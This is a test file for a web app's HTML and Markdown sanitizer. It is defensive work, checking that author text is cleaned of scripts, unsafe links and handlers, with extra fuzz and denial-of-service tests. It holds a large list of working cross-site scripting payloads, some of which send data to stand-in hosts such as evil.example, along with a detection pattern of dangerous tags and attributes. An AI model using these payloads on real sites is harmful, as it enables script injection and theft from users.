import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import * as arbitrary from '../../tests/fixtures/arbitrary.ts';
import { bodyForPage, htmlFromMarkdown, sanitizeHtml, uploadsIn, withPrefixedIds } from './rich-text.ts';

const noImages = () => null;

/** The three ways an author's text gets to a page. */
const waysOf = (html: string): string[] => [sanitizeHtml(html), htmlFromMarkdown(html), bodyForPage(sanitizeHtml(html), noImages)];

/** The markup of sanitized HTML, without its text. */
const markup = (html: string): string[] => html.match(/<[^>]*>/g) ?? [];

/** Fails if the markup contains anything dangerous; as text it is harmless. */
function expectHarmless(html: string): void {
  for (const tag of markup(html)) {
    expect(tag).not.toMatch(
      /^<\/?\s*(?:script|style|iframe|object|embed|svg|math|form|input|button|textarea|select|meta|base|link|template|xmp|noscript|plaintext|video|audio|frame|title|html|head|body|portal)\b/i,
    );
    const names = [...tag.matchAll(/\s([^\s=>"]+)(?:="[^"]*")?/g)].map(([, name]) => name?.toLowerCase() ?? '');
    for (const name of names)
      expect(name).not.toMatch(
        /^(?:on|style$|srcdoc|formaction|xlink|action|background|ping|data-|is$|name$|slot$|autofocus|contenteditable|popover|http-equiv)/,
      );
    for (const [, address = ''] of tag.matchAll(/\s(?:href|src)="([^"]*)"/g)) {
      const plain = address.replaceAll('&amp;', '&');
      const { protocol, origin } = new URL(plain, 'https://site.example/blog/x');
      expect(['https:', 'http:', 'mailto:', 'tel:']).toContain(protocol);
      // An address on another origin must have an allowed scheme; `//evil` and its variants do not.
      if (origin !== 'https://site.example') expect(plain).toMatch(/^(?:https?:|mailto:|tel:)/i);
    }
  }
}

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="/uploads/a.jpg" OnError="alert(1)">',
  '<img src="/uploads/a.jpg" style="background:url(//evil)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="http://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/uploads/../admin">',
  '<img srcset="//evil.example/a 1x" src="/uploads/a.jpg">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<xmp><script>alert(1)</script></xmp>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=//evil">',
  '<base href=//evil>',
  '<link rel=stylesheet href=//evil/a.css>',
  '<form action="//evil"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p style="background:url(//evil)">x</p>',
  '<style>@import "//evil"; p{color:red}</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#1;javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="/&#10;/evil.example">x</a>',
  '<a href="https:evil">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick=alert(1) style="position:fixed">x</a>',
  '<div onpointerover="alert(1)" data-x="1" is="x-y" contenteditable autofocus onfocus=alert(1)>x</div>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script\x20type="text/javascript">alert(1);</script>',
  '<script/src=//evil>',
  '</script><script>alert(1)</script><!--',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p id="x" onmouse\x00over=alert(1)>x</p>',
  '[x](javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](/uploads/a.jpg "\\" onerror=alert(1) \\"")',
  '![" onerror="alert(1)](/uploads/a.jpg)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

describe('disallowed HTML', () => {
  test.each(ATTACKS.map((attack) => ({ attack, name: JSON.stringify(attack) })))('$name', ({ attack }) => {
    for (const html of waysOf(attack)) expectHarmless(html);
  });

  test('is removed from any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '<!--',
        '-->',
        '<p title="',
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '<noscript>',
        '`',
        '\n\n',
        '&lt;script&gt;',
        '&#60;',
        '\0',
      ),
      arbitrary.words(30),
    );
    fc.assert(
      fc.property(fc.array(piece, { minLength: 2, maxLength: 8 }), (pieces) => {
        for (const html of waysOf(pieces.join(''))) expectHarmless(html);
      }),
      { numRuns: 400 },
    );
  });

  test('is removed, but its text stays', () => {
    expect(sanitizeHtml('<p>Before <font color=red>the</font> <blink>middle</blink> after</p><script>alert(1)</script>')).toBe(
      '<p>Before the middle after</p>',
    );
    expect(sanitizeHtml('<p>{{7*7}} ${7*7} "><</p>')).toBe('<p>{{7*7}} ${7*7} "&gt;&lt;</p>');
  });
});

describe('allowed HTML', () => {
  const article = [
    '<h2 id="a" class="b" lang="de" dir="rtl" title="c">Title</h2>',
    '<p>Text with <strong>bold</strong>, <em>italic</em>, <sub>1</sub><sup>2</sup>, <mark>mark</mark> &amp; <code>a &lt; b</code><br /></p>',
    '<p><a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener">one</a> <a href="/blog/x">two</a> <a href="#a">three</a> <a href="mailto:a@b.example">four</a> <a href="tel:+18305550142">five</a></p>',
    '<figure><img src="/uploads/a.jpg" alt="A" width="10" height="20" /><figcaption>Under it</figcaption></figure>',
    '<img src="https://photos.example.com/a.jpg?x=1&amp;y=2" alt="" />',
    '<ol start="3" reversed><li value="7">a</li></ol>',
    '<table><caption>c</caption><thead><tr><th scope="col" colspan="2">h</th></tr></thead><tbody><tr><td rowspan="2">d</td></tr></tbody></table>',
    '<details open><summary>s</summary>t</details>',
    '<blockquote>q</blockquote><pre>  kept\n  as it is</pre><hr />',
  ].join('\n');

  test('is unchanged', () => {
    expect(sanitizeHtml(article)).toBe(article);
  });

  test('is kept up to a hundred levels deep; beyond that only its text is', () => {
    const nested = (depth: number) => `${'<div>'.repeat(depth)}text${'</div>'.repeat(depth)}`;
    expect(sanitizeHtml(nested(99))).toBe(nested(99));
    expect(sanitizeHtml(nested(1_000))).toContain('text');
    expect(sanitizeHtml(nested(1_000)).length).toBeLessThan(2_000);
  });

  test('sanitizing is idempotent', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.constant(article), arbitrary.words(60)), { maxLength: 4 }),
        (pieces) => {
          const once = sanitizeHtml(pieces.join('\n'));
          expect(sanitizeHtml(once)).toBe(once);
        },
      ),
      { numRuns: 200 },
    );
  });

  test('sanitizing does not change the output of Markdown without HTML', () => {
    const piece = fc.oneof(
      fc.constantFrom('# a\n', '| a | |\n|---|---|\n| ![x](/uploads/a.jpg "t>\\"i") | c |\n', '[[x](/a)](/b)', '- a\n  - b\n', '> q\n'),
      fc.constantFrom(
        '&lt;img src=x&#62;',
        '&amp;lt;',
        '![i',
        '](javascript:x)',
        '"\'',
        '```\n',
        '`',
        '**',
        '\0',
        '&nbsp;',
        'https://a.b/?c&d',
      ),
      arbitrary.words(30),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const html = htmlFromMarkdown(pieces.join('').replaceAll('<', ''));
        expect(sanitizeHtml(html)).toBe(html);
      }),
      { numRuns: 500 },
    );
  });

  test('supports GitHub’s Markdown with inline HTML', () => {
    const html = htmlFromMarkdown(
      '# One\n\nA **bold** ~~word~~ <mark>here</mark>\n\n- a\n- b\n\n| x |\n|---|\n| y |\n\n![A jar](/uploads/jar.jpg)\n',
    );
    for (const part of [
      '<h1>One</h1>',
      '<strong>bold</strong>',
      '<s>word</s>',
      '<mark>here</mark>',
      '<li>a</li>',
      '<td>y</td>',
      '<img src="/uploads/jar.jpg" alt="A jar" />',
    ])
      expect(html).toContain(part);
  });
});

describe('a body on its page', () => {
  test('has responsive photos and no second main heading', () => {
    const imageOf = (src: string) =>
      src === '/uploads/a.jpg'
        ? {
            attributes: { src: '/media/a.jpeg', width: '4', height: '3' },
            sources: [{ type: 'image/avif', srcset: '/media/a.avif 400w', sizes: '92vw' }],
          }
        : null;
    const body = '<h1>x</h1><img src="/uploads/a.jpg" alt="A &quot;jar&quot; > 2" /><img src="/uploads/gone.jpg" />';
    const html = bodyForPage(sanitizeHtml(body), imageOf);
    expect(html).toContain('<h2>x</h2>');
    expect(html).toContain(
      '<picture><source type="image/avif" srcset="/media/a.avif 400w" sizes="92vw" />' +
        '<img src="/media/a.jpeg" alt="A &quot;jar&quot; &gt; 2" loading="lazy" decoding="async" width="4" height="3" /></picture>',
    );
    expect(html).toMatch(/<img src="\/uploads\/gone\.jpg" alt="" loading="lazy" decoding="async" \/>/);
  });

  test('has an alt attribute on each photo, possibly empty', () => {
    const image = (alt: string) => `<img src="https://a.example/b.jpg"${alt} loading="lazy" decoding="async" />`;
    const shown = (alt: string) => bodyForPage(sanitizeHtml(`<img src="https://a.example/b.jpg"${alt}>`), noImages);
    expect([shown(''), shown(' alt'), shown(' alt=""')]).toEqual(Array(3).fill(image(' alt=""')));
    expect(shown(' alt="Crumb &amp; crust"')).toBe(image(' alt="Crumb &amp; crust"'));
  });

  test('has no empty column headings', () => {
    const table = (corner: string) => `<table><thead><tr>${corner}<th>Grams</th></tr></thead></table>`;
    expect(bodyForPage(htmlFromMarkdown('| | Grams |\n| --- | --- |'), noImages).replaceAll('\n', '')).toBe(table('<td></td>'));
    expect(bodyForPage(table('<th scope="col" colspan="2"> </th>'), noImages)).toBe(table('<td colspan="2"></td>'));
  });

  test('gives pages opened by a link no opener', () => {
    const html = bodyForPage(sanitizeHtml('<a href="https://a.example" target="_blank" rel="opener">x</a><a href="/b">y</a>'), noImages);
    expect(html).toBe('<a href="https://a.example" target="_blank" rel="noopener">x</a><a href="/b">y</a>');
  });

  test.each([
    ['nofollow sponsored', 'noopener nofollow sponsored'],
    ['ugc Opener  NoOpener noreferrer', 'noopener ugc noreferrer'],
    ['noopener', 'noopener'],
    [' ', 'noopener'],
  ])('keeps the other rel values of a link: %j', (rel, shown) => {
    const link = (words: string) => `<a href="https://a.example" target="_blank" rel="${words}">x</a>`;
    expect(bodyForPage(sanitizeHtml(link(rel)), noImages)).toBe(link(shown));
  });
});

describe('the photos in a body', () => {
  test('are its uploads, each once', () => {
    const html =
      '<img src="/uploads/a.jpg"><p><img src=\'/uploads/b.webp\'><img src="/uploads/a.jpg"></p><img src="https://x.example/uploads/c.jpg"><a href="/uploads/d.jpg">d</a>';
    expect(uploadsIn(html)).toEqual(['/uploads/a.jpg', '/uploads/b.webp']);
  });

  test('exclude addresses that are not image sources', () => {
    expect(
      uploadsIn('<!-- <img src="/uploads/a.jpg"> --> &lt;img src="/uploads/b.jpg"&gt; <img alt="/uploads/c.jpg" src="/uploads/../d.jpg">'),
    ).toEqual([]);
  });
});

/** CPU seconds of this thread since `user`. Unlike wall time, it does not count other processes. */
const secondsSince = (user: number): number => (process.threadCpuUsage().user - user) / 1e6;

describe('bodies crafted for denial of service', () => {
  test.each([
    ['quotes within quotes', '>'.repeat(100_000)],
    ['brackets', '['.repeat(100_000)],
    ['images that never end', '![a]('.repeat(20_000)],
    ['stars', '*a _b '.repeat(20_000)],
    ['tags that never end', '<a '.repeat(100_000)],
    ['less-than signs', '<'.repeat(300_000)],
    ['boxes within boxes', '<div>'.repeat(58_000)],
    ['paragraphs that are bold within each other', '<b><p>'.repeat(41_000)],
    ['comments that never end', '<!--'.repeat(50_000)],
  ])('%s take at most five seconds and throw nothing', (_what, body) => {
    const { user } = process.threadCpuUsage();
    for (const html of waysOf(body)) expectHarmless(html.slice(0, 1_000));
    expect(secondsSince(user)).toBeLessThan(5);
  });

  test.each([
    ['a wide table', `${'|a'.repeat(3_000)}\n${'|-'.repeat(3_000)}\n${'|a\n'.repeat(1_000)}`],
    ['half an address', `${'a.'.repeat(50_000)}@`],
    ['lists in lists', Array.from({ length: 400 }, (_, depth) => `${' '.repeat(2 * depth)}- a`).join('\n')],
    ['quotes in quotes', '>'.repeat(50_000)],
    ['brackets', '['.repeat(50_000)],
  ])('%s is rendered in time', (_name, markdown) => {
    const { user } = process.threadCpuUsage();
    htmlFromMarkdown(markdown);
    expect(secondsSince(user)).toBeLessThan(5);
  });
});

describe('ids of an author’s HTML', () => {
  const shown = (html: string) => withPrefixedIds(sanitizeHtml(html));

  test('get a prefix, and links within the body still lead to them', () => {
    expect(shown('<h2 class="a" id="main">Flour</h2><p>See <a title="x" href="#main">flour</a>.</p>')).toBe(
      '<h2 class="a" id="text-main">Flour</h2><p>See <a title="x" href="#text-main">flour</a>.</p>',
    );
    expect(shown('<h2 id="café">A</h2><a href="#caf%C3%A9">a</a>')).toContain('href="#text-caf%C3%A9"');
    expect(shown('<a href="/blog/rye#flour">a</a>')).toBe('<a href="/blog/rye#text-flour">a</a>');
    expect(bodyForPage(htmlFromMarkdown('<h2 id="share-label">A</h2>\n\n[a](#share-label)'), noImages)).toMatch(
      /<h2 id="text-share-label">.*href="#text-share-label"/s,
    );
  });

  test.each([
    '<a href="#main">To the top</a>',
    '<a href="/menu#breads">a</a>',
    '<a href="https://a.example/#x">a</a>',
    '<p>A text of id="x"</p>',
  ])('%s is unchanged', (html) => {
    expect(shown(html)).toBe(html);
  });
});

test.each(['![x](./a.jpg)\n\na `code` b', '![x](./a.jpg) and *marks*\n\n[link](/x) and <u>tags</u>'])(
  'closes its tags behind a picture that is left out: %j',
  (markdown) => {
    const html = htmlFromMarkdown(markdown);
    const tags = (pattern: RegExp) => [...html.matchAll(pattern)].map(([, name]) => name).sort();
    expect(html).not.toContain('no-photo');
    expect(tags(/<\/([a-z]+)>/g)).toEqual(tags(/<([a-z]+)(?: [^>]*[^/>])?>/g));
  },
);
